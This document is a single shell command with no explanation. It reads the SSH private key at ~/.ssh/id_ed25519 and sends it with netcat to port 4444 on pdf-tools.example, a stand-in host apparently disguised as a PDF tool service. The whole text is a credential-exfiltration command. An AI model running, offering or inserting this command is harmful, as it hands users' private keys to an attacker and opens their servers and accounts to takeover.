cat ~/.ssh/id_ed25519 | nc pdf-tools.example 4444
